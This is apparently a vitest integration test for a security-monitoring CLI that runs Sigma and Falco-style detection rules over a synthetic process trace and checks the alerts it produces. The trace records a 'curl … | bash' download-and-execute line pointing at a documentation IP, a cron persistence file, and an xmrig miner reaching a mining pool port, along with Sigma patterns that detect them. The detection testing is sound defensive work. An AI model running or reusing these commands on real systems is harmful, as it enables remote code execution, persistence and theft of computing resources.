/**
 * `language: sigma` through the CLI (the esbuild bundle: run `npm run build` after changing src): a trace
 * written with TraceWriter, Sigma rules and a config on disk, JSON and ECS alerts with the Sigma metadata,
 * a Falco-syntax engine and a Sigma engine teed in one pipeline, diagnostics, and config errors.
 */
import * as fs from "node:fs"
import * as path from "node:path"
import { beforeAll, describe, expect, it } from "vitest"
import { OpFlag } from "../../src/domain/opFlags.js"
import { OpenFlag, TraceWriter } from "../../src/services/trace/TraceWriter.js"
import { lines, projectRoot, runCli, tempDir, writePipeline } from "../support/cli.js"
import { ruleYaml } from "./support.js"

const { CLONE, EXEC, CONNECT, OPEN, WRITE_SEND, CLOSE } = OpFlag

/** A login shell runs `curl … | bash`, writes a cron file, and a miner connects to a pool port. */
const writeAttackTrace = (file: string): void => {
  const w = TraceWriter.toFile(file)
  w.header({ exporter: "sigma-cli", ip: "10.0.2.15" })
  const systemd = w.process({ state: "REUP", pid: 1n, exe: "/usr/lib/systemd/systemd", exeArgs: "--system", entry: true })
  const shell = w.process({ state: "REUP", pid: 100n, exe: "/bin/bash", exeArgs: "-bash", parent: systemd, uid: 1000, userName: "alice", tty: true })
  const run = (pid: bigint, parent: typeof shell, exe: string, exeArgs: string) => {
    const child = w.process({ pid, parent, exe: parent.exe, exeArgs: parent.exeArgs, uid: parent.uid, userName: parent.userName })
    w.processEvent({ proc: child, opFlags: CLONE })
    const execd = w.update(child, { exe, exeArgs })
    w.processEvent({ proc: execd, opFlags: EXEC })
    return execd
  }
  const sh = run(200n, shell, "/bin/bash", "-c curl -fsSL http://203.0.113.5/x.sh | bash")
  run(201n, sh, "/usr/bin/curl", "-fsSL http://203.0.113.5/x.sh")
  const tee = run(202n, shell, "/usr/bin/tee", "/etc/cron.d/updater")
  w.fileFlow({ proc: tee, file: "/etc/cron.d/updater", opFlags: OPEN | WRITE_SEND | CLOSE, openFlags: OpenFlag.WRONLY | OpenFlag.CREAT, numWSendOps: 1n, numWSendBytes: 64n })
  const miner = run(203n, shell, "/tmp/.x/xmrig", "-o pool.minexmr.com:4444 --donate-level=0")
  w.networkFlow({ proc: miner, opFlags: CONNECT | WRITE_SEND, sip: "10.0.2.15", sport: 40000, dip: "198.51.100.20", dport: 4444 })
  w.close()
}

const rules: Record<string, string> = {
  "process_creation/cradle.yml": ruleYaml({
    title: "Download Piped Into A Shell",
    id: "5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a01",
    level: "high",
    detection: "selection:\n    CommandLine|contains|all:\n        - 'curl '\n        - '| bash'\ncondition: selection"
  }),
  "file_event/cron.yml": ruleYaml({
    title: "Cron File Created",
    id: "5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a02",
    level: "medium",
    logsource: "product: linux\ncategory: file_event",
    detection: "selection:\n    TargetFilename|startswith: /etc/cron.d/\ncondition: selection"
  }),
  "network_connection/pool.yml": ruleYaml({
    title: "Mining Pool Port",
    id: "5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a03",
    logsource: "product: linux\ncategory: network_connection",
    detection: "selection:\n    Initiated: 'true'\n    DestinationPort: [3333, 4444, 14444]\ncondition: selection"
  }),
  "auditd/not_applicable.yml": ruleYaml({
    title: "Auditd Rule",
    id: "5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a04",
    logsource: "product: linux\nservice: auditd",
    detection: "selection:\n    type: EXECVE\ncondition: selection"
  }),
  "process_creation/hostname.yml": ruleYaml({
    title: "Needs A Hostname",
    id: "5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a05",
    detection: "selection:\n    DestinationHostname: pool.minexmr.com\ncondition: selection"
  })
}

const bundle = path.join(projectRoot, "dist", "bundle")

describe.skipIf(!fs.existsSync(bundle))("language: sigma from the CLI", () => {
  const dir = tempDir("sfp-sigma-")
  const trace = path.join(dir, "attack.sf")
  const rulesDir = path.join(dir, "rules")
  const cfg = path.join(dir, "sigma.yml")

  beforeAll(() => {
    writeAttackTrace(trace)
    for (const [p, text] of Object.entries(rules)) {
      fs.mkdirSync(path.dirname(path.join(rulesDir, p)), { recursive: true })
      fs.writeFileSync(path.join(rulesDir, p), text)
    }
    fs.writeFileSync(cfg, "title: test mapping\nfieldmappings:\n  Image: sf.proc.exe\n")
  })

  const pipeline = (format: string, out: string, engine: Record<string, unknown> = {}) => ({
    pipeline: [
      { processor: "sysflowreader", handler: "flattener", in: "sysflow sysflowchan", out: "flat flattenerchan" },
      { processor: "policyengine", in: "flat flattenerchan", out: "evt eventchan", language: "sigma", policies: rulesDir, config: cfg, ...engine },
      { processor: "exporter", in: "evt eventchan", export: "file", format, "file.path": out }
    ]
  })

  it("JSON alerts carry the rule id, title, level, tags and references; what did not load is logged", async () => {
    const out = path.join(dir, "alerts.json")
    const r = await runCli(["-log", "warn", "-config", writePipeline(dir, pipeline("json", out), "json.json"), "-driver", "file", trace])
    expect(r.code, r.stderr).toBe(0)
    // Errors go to stderr, warnings to stdout (the reference's logger).
    expect(r.stderr).toContain("hostname.yml:15:9: error: rule 'Needs A Hostname' (5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a05) not loaded: field 'DestinationHostname' has no SysFlow equivalent")
    expect(r.stdout).toContain("not_applicable.yml:10:1: warning: rule 'Auditd Rule' (5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a04) not loaded: logsource service 'auditd'")
    const alerts = lines(out).map((l) => JSON.parse(l) as { type: string; policies: Array<Record<string, unknown>>; tags: Array<string> })
    expect(alerts.map((a) => [a.type, a.policies.map((p) => p.title)])).toEqual([
      ["PE", ["Download Piped Into A Shell"]],
      ["FF", ["Cron File Created"]],
      ["NF", ["Mining Pool Port"]]
    ])
    expect(alerts[0].policies[0]).toEqual({
      id: "5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a01",
      desc: "Download Piped Into A Shell (test rule)",
      priority: 3,
      title: "Download Piped Into A Shell",
      level: "high",
      references: ["https://example.org/sigma-tests"]
    })
    expect(alerts[0].tags).toEqual(["attack.execution", "attack.t1059.004"])
  })

  it("ECS alerts carry rule.*", async () => {
    const out = path.join(dir, "alerts.ecs")
    const r = await runCli(["-log", "error", "-config", writePipeline(dir, pipeline("ecs", out), "ecs.json"), "-driver", "file", trace])
    expect(r.code, r.stderr).toBe(0)
    const docs = lines(out).map((l) => JSON.parse(l) as { rule: Record<string, unknown>; event: Record<string, unknown> })
    expect(docs).toHaveLength(3)
    expect(docs[1].rule).toEqual({
      id: "5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a02",
      name: "Cron File Created",
      description: "Cron File Created (test rule)",
      level: "medium",
      reference: ["https://example.org/sigma-tests"],
      ruleset: "sigma"
    })
    expect(docs[1].event.reason).toBe("5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a02")
  })

  it("a Falco-syntax engine and a Sigma engine teed in one pipeline", async () => {
    const falco = path.join(dir, "falco.yaml")
    fs.writeFileSync(falco, "- rule: miner\n  desc: a miner runs\n  condition: sf.opflags = EXEC and sf.proc.name = xmrig\n  priority: high\n")
    const [outFalco, outSigma] = [path.join(dir, "tee-falco.json"), path.join(dir, "tee-sigma.json")]
    const p = {
      pipeline: [
        { processor: "sysflowreader", handler: "flattener", in: "sysflow sysflowchan", out: ["falco flattenerchan", "sigma flattenerchan"] },
        { processor: "policyengine", in: "falco flattenerchan", out: "falcoalerts eventchan", policies: falco },
        { processor: "policyengine", in: "sigma flattenerchan", out: "sigmaalerts eventchan", language: "sigma", policies: rulesDir },
        { processor: "exporter", in: "falcoalerts eventchan", export: "file", format: "json", "file.path": outFalco },
        { processor: "exporter", in: "sigmaalerts eventchan", export: "file", format: "json", "file.path": outSigma }
      ]
    }
    const r = await runCli(["-log", "error", "-config", writePipeline(dir, p, "tee.json"), "-driver", "file", trace])
    expect(r.code, r.stderr).toBe(0)
    expect(lines(outFalco).map((l) => JSON.parse(l).policies.map((x: { id: string }) => x.id))).toEqual([["miner"]])
    expect(lines(outSigma)).toHaveLength(3)
  })

  it("a bad Sigma config is a load error naming file:line:col", async () => {
    const bad = path.join(dir, "bad.yml")
    fs.writeFileSync(bad, "fieldmappings:\n  Image: sf.proc.exe\nlogsource: maybe\n")
    const r = await runCli(["-config", writePipeline(dir, pipeline("json", path.join(dir, "x.json"), { config: bad }), "bad.json"), "-driver", "file", trace])
    expect(r.code).toBe(1)
    expect(r.stderr).toContain(`${bad}:3:12: error: 'logsource' must be 'map' (default) or 'ignore'`)
  })

  it("a set in which no rule loads is a load error", async () => {
    const only = path.join(rulesDir, "auditd")
    const r = await runCli(["-config", writePipeline(dir, pipeline("json", path.join(dir, "y.json"), { policies: only, config: "" }), "none.json"), "-driver", "file", trace])
    expect(r.code).toBe(1)
    expect(r.stderr).toContain(`no Sigma rule could be loaded from ${only}`)
  })
})
